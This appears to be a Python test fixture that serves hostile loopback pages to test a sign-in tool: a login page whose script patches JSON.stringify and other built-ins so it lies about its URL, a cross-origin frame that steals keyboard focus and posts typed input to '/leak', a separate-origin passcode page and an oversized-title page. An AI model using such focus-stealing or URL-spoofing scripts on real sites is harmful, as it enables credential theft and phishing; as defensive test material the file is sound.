"""Hostile loopback pages at the boundary of trust (issue 22): a page that lies about where it
is, a frame that takes the keyboard focus, a second factor on an origin of its own.

Each :class:`Site` is one origin (127.0.0.1 on a port of its own) that answers from a table of
pages and records every request with its body, so a test can say what reached it."""

from __future__ import annotations

import html
from collections.abc import Callable
from urllib.parse import parse_qs

from pages.idp import LOGIN_FORM, OTP, PAGE, SAML_POST, USERS
from pages.serving import QuietHandler, Served, send

# (status, body or Location) for a request's (method, path, form)
Route = Callable[[dict[str, str]], tuple[int, str]]


class Site(Served):
    def __init__(self) -> None:
        self.routes: dict[tuple[str, str], Route] = {}
        self.seen: list[tuple[str, str, str]] = []  # (method, path, body)
        outer = self

        class Handler(QuietHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace")
                path = self.path.split("?")[0]
                outer.seen.append((self.command, self.path, body))
                route = outer.routes.get((self.command, path))
                if route is None:
                    send(self, 404, "not found", "text")
                    return
                form = {k: v[0] for k, v in parse_qs(body, keep_blank_values=True).items()}
                status, text = route(form)
                if status in (302, 303):
                    self.send_response(status)
                    self.send_header("Location", text)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                else:
                    send(self, status, text)

            do_GET = do_POST = _answer

        self._serve(Handler)

    def page(self, method: str, path: str, body: str | Route, title: str = "Sign in") -> None:
        self.routes[(method, path)] = (
            body if callable(body) else lambda form: (200, PAGE.format(title=title, body=body))
        )

    def redirect(self, path: str, to: str) -> None:
        self.routes[("GET", path)] = lambda form: (302, to)

    def bodies(self) -> str:
        return "\n".join(f"{m} {p} {b}" for m, p, b in self.seen)


def saml_page(target: str = "https://signin.aws.amazon.com/saml") -> str:
    post = SAML_POST.format(target=target, value=html.escape("PHNhbWxwOlJlc3BvbnNlLz4="))
    return PAGE.format(title="Working...", body=post)


# The untrusted page claims to be at ``%(claimed)s``: it replaces what a script in its own world
# would use to report its URL (JSON.stringify, Object.keys, Array.prototype.map, a Proxy on JSON)
# so that any object with a ``url`` says the claimed one.
FAKE_URL = (
    LOGIN_FORM
    + """<script>
(function () {
  const claimed = %(claimed)s, stringify = JSON.stringify, keys = Object.keys, map = Array.prototype.map;
  const lie = (v) => { try { if (v && typeof v === 'object' && 'url' in v) v.url = claimed; } catch (e) {} return v; };
  JSON.stringify = function (v, ...rest) { return stringify.call(JSON, lie(v), ...rest); };
  Object.keys = function (o) { return keys(lie(o)); };
  Array.prototype.map = function (fn, that) { return map.call(this, (x, i, a) => lie(fn.call(that, x, i, a))); };
  const fake = JSON.stringify;
  window.JSON = new Proxy(JSON, {get: (t, k) => (k === 'stringify' ? fake : t[k])});
})();
</script>"""
)

# A frame on another origin that takes the keyboard focus back whenever it loses it, and tells
# its server whatever reaches its field.
STEALER = """<input id="steal" aria-label="x">
<script>
const f = document.getElementById('steal');
const tell = () => fetch('/leak', {method: 'POST', body: f.value});
f.addEventListener('input', tell);
window.addEventListener('blur', () => setTimeout(() => f.focus(), 0));
f.focus();
</script>"""

DUO = """<h1>Enter a passcode</h1>
<form method="post" action="/duo">
  <label for="code">Passcode</label>
  <input id="code" name="passcode" inputmode="numeric" autocomplete="one-time-code">
  <button type="submit">Verify</button>
</form>"""


def fake_url_pair(trusted: Site, untrusted: Site) -> str:
    """The trusted origin's sign-on URL answers 302 to the untrusted login page, which claims to
    be at that URL. The URL to give the tool."""
    start = trusted.base + "/start"
    trusted.redirect("/start", untrusted.base + "/login")
    body = FAKE_URL % {"claimed": repr(start)}
    untrusted.page("GET", "/login", body.replace("{action}", "/login").replace("{error}", ""))
    untrusted.page("POST", "/login", lambda form: (200, saml_page()))
    return start


def focus_thief_pair(trusted: Site, thief: Site) -> str:
    """A trusted login page with a frame of another origin that steals the focus."""
    frame = f'<iframe src="{thief.base}/frame" width="300" height="60"></iframe>'
    trusted.page("GET", "/login", LOGIN_FORM.format(action="/login", error="") + frame)
    trusted.page("POST", "/login", lambda form: (200, saml_page()))
    thief.page("GET", "/frame", STEALER, title="ad")
    thief.routes[("POST", "/leak")] = lambda form: (200, "ok")
    return trusted.base + "/login"


def duo_pair(trusted: Site, duo: Site) -> str:
    """The password on the trusted origin, then a passcode on the second factor's own origin."""

    def password(form: dict[str, str]) -> tuple[int, str]:
        if USERS.get(form.get("username", "")) != form.get("password"):
            return 200, PAGE.format(title="Sign in", body=LOGIN_FORM.format(action="/login", error="Wrong."))
        return 302, duo.base + "/duo"

    trusted.page("GET", "/login", LOGIN_FORM.format(action="/login", error=""))
    trusted.routes[("POST", "/login")] = password
    duo.page("GET", "/duo", DUO, title="Duo")
    duo.routes[("POST", "/duo")] = lambda form: (200, saml_page() if form.get("passcode") == OTP else "no")
    return trusted.base + "/login"


# A page that makes a title of ``%(mb)d`` MB in the browser: a script's result and the page
# source for diagnostics carry it, unless what is read is bounded.
BIG_TITLE = """<h1>Sign in</h1><p>Nothing to fill in here.</p>
<script>document.title = 'Your password is wrong. '.repeat(%(mb)d * 1024 * 1024 / 24);</script>"""


def big_page(site: Site, mb: int) -> str:
    site.page("GET", "/big", BIG_TITLE % {"mb": mb}, title="big")
    return site.base + "/big"
